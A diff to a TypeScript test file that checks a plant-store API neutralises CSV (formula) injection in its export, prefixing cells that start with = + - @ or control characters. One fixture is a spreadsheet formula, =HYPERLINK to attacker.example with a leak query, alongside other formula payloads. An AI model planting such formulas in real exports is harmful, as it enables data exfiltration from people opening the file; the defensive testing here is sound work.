@@ -1,9 +1,11 @@
-// GET /plants/export, the round trip export → import into an empty store → export, and
-// GET /plants/next-id (which needs a store of known contents: the empty one).
+// GET /plants/export, its neutralised formula cells, the round trip export → import into an empty
+// store → export, and GET /plants/next-id (which needs a store of known contents: the empty one).
 import { randomBytes } from 'node:crypto';
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { parsePlantsCsv } from '../../lib/csv/plants-csv';
 import { stringifyJson } from '../../lib/http/json';
+import { plantStore } from '../../lib/plants/store';
 import { BATCH_MAX_ITEMS } from '../../lib/schemas/plant';
 import { api, expectError, newToken, uniqueId } from '../support/api';
 import { createTestDatabase, tokenIn } from '../support/database';
@@ -17,23 +19,31 @@ afterAll(async () => {
   for (const cleanup of cleanups.reverse()) await cleanup();
 });
 
-// Names that CSV must quote or keep exactly, and the int64 extremes (each test run has its own).
-const awkward = () => [
-  `{"id": ${uniqueId()}, "name": "Plain ${marker}", "tag": "plain"}`,
-  `{"id": ${uniqueId()}, "name": "Comma, in name ${marker}"}`,
-  `{"id": ${uniqueId()}, "name": "Quote \\"double\\" ${marker}", "tag": "quo\\"te"}`,
-  `{"id": ${uniqueId()}, "name": "'Pink Princess' ${marker}", "tag": "aroid"}`,
-  `{"id": ${uniqueId()}, "name": "=SUM(A1) ${marker}"}`,
-  `{"id": ${uniqueId()}, "name": "Straße ΦΙΚΟΣ 榕树 🌿 ${marker}", "tag": "ünïcode"}`,
-  `{"id": -${uniqueId()}, "name": "Negative ${marker}", "tag": "plain"}`,
+// Names that CSV must quote or keep exactly, names a spreadsheet would take for a formula, and
+// the int64 extremes (each test run has its own).
+const HYPERLINK = '=HYPERLINK("http://attacker.example/?leak","click")';
+const AWKWARD: { id: bigint; name: string; tag?: string }[] = [
+  { id: uniqueId(), name: `Plain ${marker}`, tag: 'plain' },
+  { id: uniqueId(), name: `Comma, in name ${marker}` },
+  { id: uniqueId(), name: `Quote "double" ${marker}`, tag: 'quo"te' },
+  { id: uniqueId(), name: `'Pink Princess' ${marker}`, tag: 'aroid' },
+  { id: uniqueId(), name: `=SUM(A1) ${marker}` },
+  { id: uniqueId(), name: `Straße ΦΙΚΟΣ 榕树 🌿 ${marker}`, tag: 'ünïcode' },
+  { id: -uniqueId(), name: `Negative ${marker}`, tag: 'plain' },
+  { id: uniqueId(), name: `${HYPERLINK} ${marker}`, tag: '=1+1' },
+  { id: uniqueId(), name: `+SUM(A1) ${marker}`, tag: '+plus' },
+  { id: uniqueId(), name: `-2+3 ${marker}`, tag: '-minus' },
+  { id: uniqueId(), name: `@SUM(A1) ${marker}`, tag: '@at' },
+  { id: -uniqueId(), name: `'=x ${marker}`, tag: "''+y" },
 ];
+const PLANTS_UNDER_MARKER = AWKWARD.length + 1500;
 
 beforeAll(async () => {
   token = await newToken('export tests');
   // More plants than the export's page (1000), so the stream spans several pages.
-  const filler = Array.from({ length: 1500 }, (_, index) => `{"id": ${uniqueId()}, "name": "Filler ${index} ${marker}", "tag": "filler"}`);
-  for (const items of [awkward(), filler.slice(0, 1000), filler.slice(1000)]) {
-    const response = await api('/plants/batch', { method: 'POST', token, body: `[${items.join(',')}]` });
+  const filler = Array.from({ length: 1500 }, (_, index) => ({ id: uniqueId(), name: `Filler ${index} ${marker}`, tag: 'filler' }));
+  for (const items of [AWKWARD, filler.slice(0, 1000), filler.slice(1000)]) {
+    const response = await api('/plants/batch', { method: 'POST', token, body: stringifyJson(items) });
     expect(response.status, response.text).toBe(200);
   }
 });
@@ -53,13 +63,58 @@ describe('GET /plants/export', () => {
     expect(lines[0]).toBe('id,name,tag');
     expect(lines).toHaveLength(4);
     expect(lines[1]).toMatch(new RegExp(`^\\d+,Plain ${marker},plain$`));
-    expect(lines[2]).toMatch(new RegExp(`^-\\d+,Negative ${marker},plain$`));
+    expect(lines[2]).toMatch(new RegExp(`^"'-\\d+",Negative ${marker},plain$`));
     expect(lines[3]).toBe('');
 
     const quoted = await exportOf(`?q=${encodeURIComponent(`"double" ${marker}`)}`);
     expect(quoted.text.split('\r\n')[1]).toMatch(new RegExp(`^\\d+,"Quote ""double"" ${marker}","quo""te"$`));
     const comma = await exportOf(`?q=${encodeURIComponent(`comma, IN`)}`);
     expect(comma.text).toContain(`,"Comma, in name ${marker}",\r\n`);
+  });
+
+  // OWASP "CSV injection": a cell a spreadsheet would run as a formula goes out with a ' in front.
+  it("puts a ' in front of every cell that starts with = + - @ (so a spreadsheet shows it as text)", async () => {
+    const { text } = await exportOf(`?q=${marker}`);
+    const line = (plant: (typeof AWKWARD)[number]) => text.split('\r\n').find((row) => row.includes(plant.name.replaceAll('"', '""')));
+    const [, , , pink, sum, , negative, hyperlink, plus, minus, at, quoted] = AWKWARD;
+    expect(line(hyperlink)).toBe(`${hyperlink.id},"'=HYPERLINK(""http://attacker.example/?leak"",""click"") ${marker}","'=1+1"`);
+    expect(line(sum)).toBe(`${sum.id},"'=SUM(A1) ${marker}",`);
+    expect(line(plus)).toBe(`${plus.id},"'+SUM(A1) ${marker}","'+plus"`);
+    expect(line(minus)).toBe(`${minus.id},"'-2+3 ${marker}","'-minus"`);
+    expect(line(at)).toBe(`${at.id},"'@SUM(A1) ${marker}","'@at"`);
+    // A name that itself starts with ' and a formula character gets one more, so the import can take one off.
+    expect(line(quoted)).toBe(`"'${quoted.id}","''=x ${marker}","'''+y"`);
+    expect(line(negative)).toBe(`"'${negative.id}",Negative ${marker},plain`);
+    // A ' before anything else stays as it is.
+    expect(line(pink)).toBe(`${pink.id},'Pink Princess' ${marker},aroid`);
+    // And no cell of the whole export starts with a formula character.
+    const cells = Papa.parse<string[]>(text, { skipEmptyLines: true }).data.flat();
+    expect(cells).toHaveLength(3 * (PLANTS_UNDER_MARKER + 1));
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
+
+  it("puts a ' in front of a cell that starts with a tab or a carriage return, in a database written behind the API's back", async () => {
+    // Names and tags refuse control characters, so no plant the API stored starts with either;
+    // one another program wrote into the database still goes out neutralised.
+    const other = `ctl${randomBytes(4).toString('hex')}`;
+    const plants = [
+      { id: uniqueId(), name: `\t=1+1 ${other}`, tag: '\r=2+2' },
+      { id: uniqueId(), name: `\r@SUM(A1) ${other}`, tag: '\t-3' },
+    ];
+    const unrecorded = () => ({ audit: [], events: [] });
+    await plantStore().insertMany(plants, unrecorded);
+    try {
+      const { text } = await exportOf(`?q=${other}`);
+      expect(text).toBe(
+        'id,name,tag\r\n' + `${plants[0].id},"'\t=1+1 ${other}","'\r=2+2"\r\n` + `${plants[1].id},"'\r@SUM(A1) ${other}","'\t-3"\r\n`,
+      );
+      const parsed = parsePlantsCsv(text);
+      if (!parsed.ok) throw new Error(parsed.message);
+      expect(parsed.records.map((record) => record.values)).toEqual(plants.map(({ id, name, tag }) => ({ id: id.toString(), name, tag })));
+    } finally {
+      // Gone again, so no other test meets a name the API would refuse.
+      for (const { id } of plants) await plantStore().delete(id, () => {}, unrecorded);
+    }
   });
 
   it('writes the header alone when nothing matches, and refuses bad filters', async () => {
@@ -94,11 +149,13 @@ describe('export, then import into an empty store', () => {
     const original = await exportOf(`?q=${marker}`);
     const parsed = parsePlantsCsv(original.text);
     if (!parsed.ok) throw new Error(parsed.message);
-    expect(parsed.records).toHaveLength(1507);
+    expect(parsed.records).toHaveLength(PLANTS_UNDER_MARKER);
     expect(parsed.records.filter((record) => Object.keys(record.problems).length > 0)).toEqual([]);
 
-    // As the import page sends them: chunks of at most BATCH_MAX_ITEMS, in file order.
+    // The same plants, oldest first: the formula-like names, tags and negative ids without the ' the export put in front.
     const plants = parsed.records.map((record) => record.plant!);
+    expect(plants.slice(0, AWKWARD.length)).toEqual(AWKWARD);
+    // As the import page sends them: chunks of at most BATCH_MAX_ITEMS, in file order.
     for (let start = 0; start < plants.length; start += BATCH_MAX_ITEMS) {
       const body = stringifyJson(plants.slice(start, start + BATCH_MAX_ITEMS).map(({ id, name, tag }) => ({ id, name, tag })));
       const imported = await requestOn(empty, '/plants/batch', {
@@ -122,12 +179,9 @@ describe('export, then import into an empty store', () => {
 
   it('then offers one more than the highest id, and the lowest free one once int64 max is taken', async () => {
     const headers = { authorization: `Bearer ${empty.token}` };
-    const listed = await requestOn(empty, '/plants/export', { headers });
-    const highest = listed.text
-      .split('\r\n')
-      .slice(1, -1)
-      .map((line) => BigInt(line.split(',')[0]))
-      .reduce((a, b) => (b > a ? b : a));
+    const listed = parsePlantsCsv((await requestOn(empty, '/plants/export', { headers })).text);
+    if (!listed.ok) throw new Error(listed.message);
+    const highest = listed.records.map((record) => record.plant!.id).reduce((a, b) => (b > a ? b : a));
     expect((await requestOn(empty, '/plants/next-id', { headers })).text).toBe(`{"id":${highest + 1n}}`);
 
     const create = (id: bigint) =>
